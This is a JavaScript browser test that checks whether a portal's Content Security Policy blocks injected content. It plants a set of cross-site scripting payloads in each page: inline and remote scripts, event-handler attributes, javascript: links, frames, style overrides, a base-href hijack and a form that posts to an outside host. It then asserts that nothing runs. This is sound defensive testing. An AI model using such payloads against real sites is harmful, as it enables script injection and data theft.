// What if something that somebody wrote did become part of a page? The pages are
// changed on their way here, with all that an attacker would try and the headers
// that the portal sent: nothing of it runs, looks different or asks anybody for
// anything.

import assert from 'node:assert/strict';
import test, { after, before } from 'node:test';
import { base, desk, id, launch, Visitor } from './browser.mjs';

let browser;
before(async () => { browser = await launch(); });
after(() => browser.close());

const there = 'http://127.0.0.1:9/'; // where nobody listens; asking would be seen
const ran = "window.injected = (window.injected ?? []).concat('@')";
const planted = [
  `<script>${ran.replace('@', 'script')}</script>`,
  `<script src="${there}x.js"></script><script src="data:text/javascript,${encodeURIComponent(ran.replace('@', 'data'))}"></script>`,
  `<script type="module">${ran.replace('@', 'module')}</script>`,
  `<img src="data:image/png;base64,x" onerror="${ran.replace('@', 'onerror')}"><img src="${there}x.png">`,
  `<svg onload="${ran.replace('@', 'onload')}"></svg><details open ontoggle="${ran.replace('@', 'ontoggle')}">x</details>`,
  `<a id="planted" href="javascript:${ran.replace('@', 'link')}">x</a>`,
  `<iframe src="${there}frame"></iframe><iframe srcdoc="<script>parent.injected=['frame']</script>"></iframe><object data="${there}object"></object><embed src="${there}embed">`,
  `<style>h1 { color: rgb(1, 2, 3) !important }</style><link rel="stylesheet" href="${there}x.css"><link rel="stylesheet" href="data:text/css,h1{color:rgb(1,2,3)}"><p id="styled" style="position: fixed; color: rgb(1, 2, 3)">x</p>`,
  `<form id="elsewhere" method="post" action="${there}form"><button id="steal">x</button></form>`,
  `<base href="${there}"><link rel="preload" as="script" href="${there}p.js"><video src="${there}v"></video><audio src="${there}a"></audio>`,
].join('\n');

/** Has every page that is asked for changed on its way, its headers as they are. */
async function inject(v) {
  await v.context.addInitScript(() => {
    window.violated = [];
    document.addEventListener('securitypolicyviolation', e => window.violated.push(e.effectiveDirective));
  });
  await v.context.route(base + '/**', async route => {
    if (route.request().resourceType() !== 'document' || route.request().method() !== 'GET') return route.continue();
    const response = await route.fetch({ maxRedirects: 0 });
    const type = response.headers()['content-type'] ?? '';
    if (response.status() >= 300 && response.status() < 400 || !type.startsWith('text/html')) return route.fulfill({ response });
    return route.fulfill({ response, body: (await response.text()).replace('<body', `<body data-planted`).replace('</main>', `${planted}</main>`) });
  });
}

test('nothing that is planted in a page runs', async t => {
  const v = await Visitor.arrive(browser, desk, true);
  const { page } = v;
  const asked = [];
  // What the policy holds back is told as a request that failed for that reason.
  v.context.on('requestfinished', r => { if (r.url().startsWith(there)) asked.push(r.url()); });
  v.context.on('requestfailed', r => { if (r.url().startsWith(there) && r.failure().errorText !== 'csp') asked.push(`${r.url()} ${r.failure().errorText}`); });
  await v.signIn('officer');
  await inject(v);
  let seen = 0;
  for (const path of ['/', `/${id}`, `/${id}/respond`, `/${id}/receipt`, `/${id}/paper`, `/${id}/log/`, '/privacy', '/staff', `/staff/${id}/search`, `/staff/${id}/search?q=street`, `/staff/${id}/themes`, `/staff/${id}/report`, `/staff/${id}/attention`, `/staff/${id}/attention/pile`, '/staff/account', '/no/such/page']) {
    await page.goto(base + path, { timeout: 120_000 });
    if (await page.locator('#planted').count() === 0) throw new Error(`nothing was planted in ${path}`);
    await page.locator('#planted').first().click({ force: true, noWaitAfter: true });
    await page.locator('#steal').click({ force: true, noWaitAfter: true });
    await page.evaluate(() => document.querySelector('#elsewhere').submit());
    await page.waitForFunction(() => window.violated.includes('form-action'));
    const found = await page.evaluate(there => new Promise(done => {
      // What a script of the page itself may not do either.
      const tried = [fetch(there + 'fetch').then(() => 'fetch', () => ''), new Promise(r => { const i = new Image(); i.onload = () => r('image'); i.onerror = () => r(''); i.src = there + 'i.png'; })];
      Promise.all(tried).then(reached => done({
        injected: window.injected ?? [], reached: reached.filter(Boolean), violated: [...new Set(window.violated)].sort(), address: location.href,
        frames: [...document.querySelectorAll('iframe')].filter(f => { try { return f.contentDocument?.body?.textContent; } catch { return true; } }).length,
        styled: [getComputedStyle(document.querySelector('h1')).color, getComputedStyle(document.querySelector('#styled')).position].filter(s => s === 'rgb(1, 2, 3)' || s === 'fixed'),
        base: document.baseURI.startsWith(there),
      }));
    }), there);
    assert.deepEqual(found.injected, [], `${path}: ran`);
    assert.deepEqual(found.reached, [], `${path}: reached another host`);
    assert.deepEqual(found.styled, [], `${path}: looks different`);
    assert.equal(found.base, false, `${path}: its links lead elsewhere`);
    assert.ok(found.address.startsWith(base + path.split('?')[0]), `${path}: went to ${found.address}`);
    for (const directive of ['script-src-elem', 'script-src-attr', 'style-src-elem', 'style-src-attr', 'img-src', 'frame-src', 'form-action', 'connect-src', 'base-uri'])
      assert.ok(found.violated.includes(directive), `${path}: ${directive} was not violated, so nothing was shown: ${found.violated}`);
    seen++;
  }
  assert.deepEqual(asked, [], 'requests that left the browser');
  t.diagnostic(`${seen} pages, everything planted was held back`);
  await v.context.close();
});
